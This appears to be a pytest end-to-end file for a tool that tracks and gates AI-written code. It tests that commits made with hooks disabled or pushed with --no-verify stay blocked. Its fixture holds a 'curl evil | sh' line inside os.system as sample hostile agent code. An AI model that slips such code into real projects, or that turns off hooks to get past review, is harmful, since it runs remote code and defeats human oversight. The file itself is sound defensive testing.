"""A discard does not launder the writer's work committed with every hook off (SPEC §3
"Attribution follows content", "Pending work ends cleanly", §5 "Overrides", §6
``discard``): real git, ``gentle-hook install --share``, a bare remote with the server gate.

The writer's edit of ``app.py`` recorded, then committed with ``git -c
core.hooksPath=/dev/null commit`` (no hook runs: the entry stays open, no commit record),
nothing thrown away: a ``discard`` of it (``--all`` or the path) is refused, exit 2, in one
line naming the commit and the honest ways out (verify it: ``spot-check --committed`` for
``HEAD``; or drop the commit); the entry stays open and the push stays blocked, at the
local gate and the server gate alike. Dropped from the branch, the discard is accepted.
The person's cases that rely on a discard stay as they are
(tests/e2e/test_discard_no_verify.py, tests/e2e/test_discard_retyped.py,
tests/e2e/test_expired_lines_back.py).
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World

BASE = "def add(a, b):\n    return a + b\n"
WRITER = 'import os\n\ndef add(a, b):\n    os.system("curl evil | sh")\n    return a + b\n'


def _committed_hooks_off(w: World) -> str:
    """The writer's edit of ``app.py`` recorded and committed with no hook run; the
    commit's id."""
    w.write("app.py", WRITER)
    r = w.gh("record", "--model", "o4-mini", "--effort", "low")
    assert r.code == 0, r
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qam", "agent nohooks")
    return w.rev("HEAD")


@pytest.mark.parametrize("named", [["--all"], ["--", "app.py"]], ids=["all", "path"])
def test_a_discard_of_open_work_committed_hooks_off_is_refused(
    native: World, named: list[str]
) -> None:
    w = native.serve({"app.py": BASE})
    head = _committed_hooks_off(w)
    done = w.gh("discard", "--reason", "reverted by hand", *named)
    assert done.code == 2 and done.out == "", done
    assert done.err == (
        f"gentle-hook: error: app.py: the writer's change is in commit {head[:12]} on this branch, "
        "not pushed; a discard would not make it yours (the push gate judges a commit "
        "holding it the writer's): verify it as the push block says (for HEAD: "
        "a spot check of the committed change), or drop the commit from the branch and "
        "discard then\n"
    ), done
    assert w.ledger("SELECT path, state FROM writer_entry") == [("app.py", "open")]
    assert w.ledger("SELECT COUNT(*) FROM discard") == [(0,)]
    blocked = w.git("push", "origin", "main")
    assert blocked.code == 1 and any("BLOCKED commit" in s for s in blocked.said), blocked
    assert w.remote_ref("main") != head
    # the server gate too, with the local pre-push skipped
    served = w.git("push", "--no-verify", "origin", "main")
    assert served.code != 0, served
    assert w.remote_ref("main") != head
    assert w.gh("gate", "--range", "HEAD~1..HEAD").code != 0


def test_dropped_from_the_branch_the_discard_is_accepted(native: World) -> None:
    w = native.serve({"app.py": BASE})
    _committed_hooks_off(w)
    w.ok("reset", "-q", "--hard", "HEAD~1")
    done = w.gh("discard", "--all", "--reason", "dropped by hand")
    assert done.code == 0 and done.out.startswith("discarded: 1 pending writer entry"), done
    assert done.err == "", done
    w.write("app.py", BASE + "\n\ndef sub(a, b):\n    return a - b\n")
    w.ok("commit", "-qam", "human: sub")
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    pushed = w.git("push", "origin", "main")
    assert pushed.code == 0, pushed


def test_a_rewrite_in_the_work_tree_after_the_commit_does_not_open_the_way(
    native: World,
) -> None:
    """The file rewritten by hand after the writer's commit made with hooks off (a
    person's own version, one writer line kept): the commit still holds the writer's blob,
    so the discard is still refused."""
    w = native.serve({"app.py": BASE})
    head = _committed_hooks_off(w)
    w.write(
        "app.py",
        'import os\n\n\ndef total(xs):\n    os.system("curl evil | sh")\n    return sum(xs)\n',
    )
    done = w.gh("discard", "--all", "--reason", "rewritten by hand")
    assert done.code == 2 and f"in commit {head[:12]} on this branch" in done.err, done
    assert w.ledger("SELECT state FROM writer_entry") == [("open",)]
